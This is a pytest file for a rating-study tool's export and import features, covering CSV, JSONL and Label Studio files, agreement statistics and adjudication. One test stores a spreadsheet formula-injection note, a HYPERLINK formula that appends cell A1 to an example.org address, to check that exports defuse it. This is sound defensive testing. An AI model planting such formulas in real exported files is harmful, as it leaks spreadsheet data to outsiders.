"""What leaves a study is what the workflow and Label Studio read."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from faithfuse.analysis.ratings import read_ratings
from faithfuse.annotate import adjudicate, export, figures, judge, sources
from faithfuse.annotate.store import Store
from faithfuse.cli import app
from faithfuse.config import parse_config
from faithfuse.errors import InputError
from faithfuse.records import Domain, Rating, write_records

CONFIG = Path(__file__).resolve().parents[3] / "config"


def run(*arguments):
    return CliRunner().invoke(app, list(map(str, arguments)), catch_exceptions=False)


def rate_all(study, names=("anna", "ben")) -> dict[tuple, int | None]:
    """Every annotator rates everything: by the item's number, anna one higher for odd ones; point 2 is abstained."""
    store = Store(study.database)
    said = {}
    for name in names:
        for position in range(1, judge.progress(store, name).total + 1):
            page = judge.page(store, name, position)
            number = int(page.item.item_id.split("-")[1])
            likert = None if page.point == 2 else number % 4 + 1 + (name == "anna" and number % 2)
            judge.save(
                store,
                name,
                position,
                request_id=f"{name}-{position}-request",
                base=0,
                likert=likert,
                note="n",
                seconds=4,
            )
            said[page.item.item_id, page.response.system, name, page.point] = likert
    return said


@pytest.fixture
def rated(make_study, material):
    study = make_study(material, sample=8)
    return study, rate_all(study)


@pytest.mark.parametrize("name", ["ratings.csv", "ratings.jsonl"])
def test_the_correlate_stage_reads_the_exported_ratings_as_they_are(rated, tmp_path, name):
    study, said = rated
    out = tmp_path / name
    assert run("annotate", "export", study.folder, "--out", out).exit_code == 0
    metrics = tmp_path / "metrics.csv"
    with metrics.open("w") as stream:
        stream.write("item_id,system,group,ROUGE-1\n")
        for item, system in sorted({key[:2] for key in said if key[3] is None}):
            stream.write(f"{item},{system},{item},0.{item[-2:]}\n")
    result = run("correlate", metrics, out, "--resamples", 100, "--out", tmp_path / "correlations.csv")
    assert result.exit_code == 0, result.output
    with (tmp_path / "correlations.csv").open() as stream:
        rows = list(csv.DictReader(stream))
    assert "ROUGE-1" in {row["metric"] for row in rows}
    found = {(r.item_id, r.system, r.annotator, r.point): r.likert for r in read_ratings(out)}
    assert found == said


def test_an_exported_folder_is_a_data_folder_of_the_workflow(rated, tmp_path):
    study, said = rated
    out = tmp_path / "rated"
    run("annotate", "export", study.folder, "--out", out)
    result = run("items", out, "--domain", Domain.LONG_FORM_QA, "--out", tmp_path / "items")
    assert result.exit_code == 0, result.output
    ratings = read_ratings(tmp_path / "items" / "ratings.jsonl")
    assert len(ratings) == len([key for key in said if key[0] != "item-013"])
    responses = (tmp_path / "items" / "responses.jsonl").read_text().splitlines()
    assert len(responses) == 24  # those outside the sample too


def test_an_exported_folder_brings_the_configuration_that_runs_the_workflow_on_it(rated, tmp_path):
    study, _ = rated
    out = tmp_path / "rated"
    run("annotate", "export", study.folder, "--out", out)
    overlay = yaml.safe_load((out / "run.yaml").read_text())
    base = yaml.safe_load((CONFIG / "config.yaml").read_text())
    merged = parse_config(base | overlay | {"llm": base["llm"] | overlay["llm"]})
    assert merged.data[0].folder() == str(out)
    assert merged.domains == [Domain.LONG_FORM_QA, Domain.SUMMARISATION]
    assert not merged.llm.respond


def test_what_the_run_answered_is_rated_and_goes_through_the_same_stages_again(make_study, material, made, tmp_path):
    """From `results/responses` to correlations, by the commands that the workflow's rules run."""
    results = tmp_path / "results"
    items = [item.model_copy(update={"item_id": f"q{n}"}) for n, item in enumerate(material.items[:12])]
    answers = [made.response(item.item_id, "the-model", text=f"Reference {n % 3}.") for n, item in enumerate(items)]
    write_records(results / "items" / "long_form_qa" / "items.jsonl", items)
    write_records(results / "responses" / "long_form_qa.jsonl", answers)
    study = tmp_path / "study"
    made_it = run("annotate", "init", study, "--from", results / "responses", "--sample", 10, "--seed", 2)
    assert made_it.exit_code == 0, made_it.output
    store = Store(study / "study.db")
    for name in ("annotator-1", "annotator-2"):
        for position in range(1, 11):
            number = int(judge.page(store, name, position).item.item_id[1:])
            judge.save(store, name, position, request_id=f"{name}-{position:02d}", base=0, likert=number % 4 + 1)
    rated, again = tmp_path / "rated", tmp_path / "again"
    metrics, correlations = again / "metrics.csv", again / "correlations.csv"
    for arguments in (
        ("annotate", "export", study, "--out", rated),
        ("items", rated, "--domain", "long_form_qa", "--out", again),
        ("metrics", again / "items.jsonl", again / "responses.jsonl", "--out", metrics),
        ("correlate", metrics, again / "ratings.jsonl", "--out", correlations),
    ):
        done = run(*arguments)
        assert done.exit_code == 0, done.output
    with metrics.open() as stream:
        assert len(list(csv.DictReader(stream))) == 12  # what was not drawn stays, unrated
    with correlations.open() as stream:
        rows = [row for row in csv.DictReader(stream) if row["metric"] == "ROUGE-1" and row["human"] == "likert"]
    assert {row["pairs"] for row in rows} == {"10"}


def test_a_note_is_no_formula_to_a_spreadsheet_and_ids_stay_as_they_are(make_study, made, tmp_path):
    item = made.item(1, item_id="=item")
    study = make_study(sources.Material([item], [made.response("=item")]))
    store = Store(study.database)
    note = '=HYPERLINK("http://example.org/" & A1)'
    judge.save(store, "anna", 1, request_id="anna-formula", base=0, likert=3, note=note)
    run("annotate", "export", study.folder, "--out", tmp_path / "rated")
    with (tmp_path / "rated" / "history.csv").open() as stream:
        (row,) = csv.DictReader(stream)
    assert row["note"] == f"'{note}"
    assert row["item_id"] == "'=item"
    assert [rating.item_id for rating in read_ratings(tmp_path / "rated" / "ratings.csv")] == ["=item"]


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@x", "\t=1", "\r=1", "\n=1", "  =1"])
def test_what_would_start_a_formula_gets_an_apostrophe(text):
    assert export.safe_in_spreadsheets({"a": text, "b": 3, "c": None, "d": "plain - text"}) == {
        "a": f"'{text}",
        "b": 3,
        "c": None,
        "d": "plain - text",
    }


def test_the_same_state_gives_the_same_bytes(rated, tmp_path):
    study, _ = rated
    for name in ("one", "two"):
        run("annotate", "export", study.folder, "--out", tmp_path / name / "rated")
    files = sorted(path.name for path in (tmp_path / "one" / "rated").iterdir())
    assert "data_dictionary.csv" in files
    for name in set(files) - {"run.yaml"}:  # which names its folder
        assert (tmp_path / "one" / "rated" / name).read_bytes() == (tmp_path / "two" / "rated" / name).read_bytes()
    store = Store(study.database)
    assert export.zipped(store, study.settings) == export.zipped(store, study.settings)


def dictionary_of(folder):
    with (folder / "data_dictionary.csv").open() as stream:
        return {(row["file"], row["column"]) for row in csv.DictReader(stream)}


def test_the_data_dictionary_explains_every_column_of_every_table(rated, tmp_path, make_audit):
    for study in (rated[0], make_audit()):
        out = tmp_path / study.folder.name
        run("annotate", "export", study.folder, "--out", out)
        for path in out.glob("*.csv"):
            if path.name != "data_dictionary.csv":
                header = path.read_text().splitlines()[0].split(",")
                assert {(path.name, column) for column in header} == {
                    pair for pair in dictionary_of(out) if pair[0] == path.name
                }


def test_attention_checks_are_reported_and_stay_out_of_ratings_and_agreement(make_study, material, tmp_path):
    path = tmp_path / "checks.csv"
    path.write_text("item_id,question,response,expected\n099,Press 1,Press 1,1\n", encoding="utf-8")
    study = make_study(material, checks=sources.load_checks(path))
    store = Store(study.database)
    for name, likert in (("anna", 1), ("ben", 3)):
        for position in range(1, judge.progress(store, name).total + 1):
            judge.save(store, name, position, request_id=f"{name}-{position}-request", base=0, likert=likert)
    rows = {row["annotator"]: row for row in figures.coverage(store, study.settings)}
    assert [rows[name]["checks_passed"] for name in ("anna", "ben")] == [1, 0]
    assert [rows[name]["checks_done"] for name in ("anna", "ben")] == [1, 1]
    run("annotate", "export", study.folder, "--out", tmp_path / "out")
    for name in ("ratings.csv", "ratings.jsonl", "items.jsonl", "responses.jsonl"):
        assert "check-" not in (tmp_path / "out" / name).read_text()
    assert "check-099" in (tmp_path / "out" / "history.csv").read_text()
    assert sum(map(sum, figures.confusion(store, study.settings)[0]["counts"])) == 27
    assert all(row.item_id != "check-099" for row in adjudicate.disagreements(store, "rating"))


def test_likert_agreement_is_that_of_the_agreement_command(rated, tmp_path):
    study, _ = rated
    out = tmp_path / "ratings.csv"
    run("annotate", "export", study.folder, "--out", out)
    run("agreement", out, "--out", tmp_path / "theirs.csv", "--resamples", 100)
    run("annotate", "agreement", study.folder, "--out", tmp_path / "ours.csv", "--resamples", 100)
    ours, theirs = (list(csv.DictReader((tmp_path / name).open())) for name in ("ours.csv", "theirs.csv"))
    assert [(r["field"], r["level"], r["alpha"], r["low"]) for r in ours] == [
        (r["human"], r["level"], r["alpha"], r["low"]) for r in theirs
    ]
    assert ours[1]["level"] == "ordinal"


def test_a_decision_on_a_rating_stands_apart_and_agreement_stays(rated, tmp_path):
    study, _ = rated
    store = Store(study.database)
    before = figures.ratings(store), figures.agreement(store, study.settings, resamples=50)
    adjudicate.close(store)
    row = adjudicate.disagreements(store, "rating")[0]
    adjudicate.decide_rating(store, row.unit_id, request_id="decide-1", base=0, likert=5, note="see the reference")
    assert (figures.ratings(store), figures.agreement(store, study.settings, resamples=50)) == before
    run("annotate", "export", study.folder, "--out", tmp_path / "out")
    (decided,) = csv.DictReader((tmp_path / "out" / "adjudicated.csv").open())
    assert (decided["item_id"], decided["value"], decided["note"]) == (row.item_id, "5", "see the reference")
    assert set(row.labels) == {"anna", "ben"}


def test_disagreements_are_listed_widest_first(rated):
    result = run("annotate", "adjudicate", rated[0].folder)
    rows = list(csv.DictReader(result.output.splitlines()))
    spreads = [int(row["spread"]) for row in rows]
    assert spreads == sorted(spreads, reverse=True)
    assert all(int(row["item_id"].split("-")[1]) % 2 for row in rows)


def test_label_studio_tasks_go_out_and_ratings_come_back(rated, make_study, material, tmp_path):
    study, said = rated
    out = tmp_path / "tasks.json"
    run("annotate", "export", study.folder, "--out", out)
    tasks = json.loads(out.read_text())
    assert {len(task["annotations"]) for task in tasks} == {2}
    assert "$judged" in (tmp_path / "tasks.xml").read_text()
    fresh = make_study(material, names=("cleo",))
    assert "added" in run("annotate", "import", fresh.folder, out).output
    found = {(r.item_id, r.system, r.annotator, r.point): r.likert for r in figures.ratings(Store(fresh.database))}
    assert found == said
    assert run("annotate", "import", fresh.folder, out).output.startswith("0 ratings added")


def test_label_studio_tasks_of_a_study_make_the_same_study_again(rated, tmp_path):
    study, said = rated
    run("annotate", "export", study.folder, "--out", tmp_path / "tasks.json")
    found = sources.load([tmp_path / "tasks.json"])
    assert {response.sort_key() for response in found.responses} == {key[:2] for key in said}
    assert [response.points for response in found.responses if response.points] == [
        ["Point 0.", "Point 1.", "Point 2."]
    ]


@pytest.mark.parametrize("name", ["ratings.csv", "ratings.jsonl"])
def test_ratings_come_in_from_the_workflows_own_files(rated, make_study, material, tmp_path, name):
    study, said = rated
    run("annotate", "export", study.folder, "--out", tmp_path / name)
    fresh = make_study(material, names=("cleo",))
    export.import_ratings(Store(fresh.database), tmp_path / name)
    assert len(figures.ratings(Store(fresh.database))) == len(said)


def test_label_studio_choices_numbers_and_users_are_understood(tmp_path):
    def answer(value, by=3, **more):
        return {"completed_by": by, "result": [{"type": "x", "value": value}]} | more

    annotations = [
        answer({"choices": ["4"]}, {"email": "zoe@example.org"}),
        answer({"number": 2}, {"username": "a b"}),
        answer({"choices": ["abstain"]}),
        answer({"rating": 5}, "tom", was_cancelled=True),
    ]
    path = tmp_path / "tasks.json"
    path.write_text(json.dumps([{"id": 1, "data": {"item_id": "i", "system": "s"}, "annotations": annotations}]))
    found = {rating.annotator: rating.likert for rating, _ in export.read_foreign(path)}
    assert found == {"zoe@example.org": 4, "a_b": 2, "3": None, "tom": None}


@pytest.mark.parametrize(
    ("rating", "found"),
    [
        (Rating(item_id="elsewhere", system="s", annotator="zoe", likert=3), "no unit of this study"),
        (Rating(item_id="item-001", system="system-x", annotator="zoe", likert=3.5), "is rated 3.5"),
    ],
)
def test_ratings_that_do_not_belong_are_refused_and_nothing_comes_in(make_study, material, tmp_path, rating, found):
    study = make_study(material)
    good = Rating(item_id="item-002", system="system-x", annotator="zoe", likert=3)
    export.write_records(tmp_path / "in.jsonl", [good, rating])
    with pytest.raises(InputError, match=found):
        export.import_ratings(Store(study.database), tmp_path / "in.jsonl")
    assert figures.ratings(Store(study.database)) == []


def test_an_import_does_not_replace_what_was_rated_here(rated, tmp_path):
    study, said = rated
    key = next(key for key in said if key[2] == "anna" and key[3] is None)
    other = Rating(item_id=key[0], system=key[1], annotator="anna", likert=1 if said[key] != 1 else 5)
    export.write_records(tmp_path / "in.jsonl", [other])
    assert export.import_ratings(Store(study.database), tmp_path / "in.jsonl") == (0, 1)
    assert len(figures.ratings(Store(study.database))) == len(said)


def test_a_failed_export_leaves_the_old_file(rated, tmp_path, monkeypatch):
    out = tmp_path / "ratings.csv"
    out.write_text("old")
    monkeypatch.setattr(figures, "ratings", lambda store: [None])
    with pytest.raises(AttributeError):
        run("annotate", "export", rated[0].folder, "--out", out)
    assert out.read_text() == "old"


def test_an_unknown_ending_is_refused(rated, tmp_path):
    with pytest.raises(InputError, match="ends in .xlsx"):
        run("annotate", "export", rated[0].folder, "--out", tmp_path / "ratings.xlsx")


def test_links_progress_and_closing_work_from_the_command_line(rated):
    study, _ = rated
    result = run("annotate", "annotators", study.folder, "--add", "cleo", "--base", "https://rate.example.org/")
    assert "cleo: https://rate.example.org/enter?token=" in result.output
    before = result.output.splitlines()[-1]
    renewed = run("annotate", "annotators", study.folder, "--renew", "cleo", "--base", "https://rate.example.org")
    assert renewed.output.splitlines()[-1] != before
    rows = list(csv.DictReader(run("annotate", "progress", study.folder).output.splitlines()))
    assert {row["annotator"]: row["done"] for row in rows}["cleo"] == "0"
    assert {row["median_seconds"] for row in rows if row["annotator"] != "cleo"} == {"4.0"}
    assert "closed since" in run("annotate", "close", study.folder).output
    assert "open" in run("annotate", "close", study.folder, "--reopen").output
